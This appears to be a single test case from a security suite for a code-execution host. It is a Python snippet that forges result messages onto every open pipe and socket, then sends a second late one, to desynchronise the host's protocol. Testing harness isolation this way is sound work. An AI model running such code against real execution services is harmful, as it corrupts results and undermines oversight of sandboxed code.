# id: 402
# name: end_told_twice
# category: protocol
# technique: the same end again, after the real one
# breach: desync host_dead
# looks_like: the next step answers with an old result
# baseline: credulous
import os, stat


def spray(data):
    """To whatever leads out of this process."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def message(text, *blobs):
    header = text.encode()
    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)


def done(value, *blobs):
    """The end of this snippet, forged, with a value in the kernel's own notation."""
    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)


import threading, time

def late():
    time.sleep(0.02)
    spray(done('"AGAIN"'))

threading.Thread(target=late).start()
spray(done('"ONCE"'))
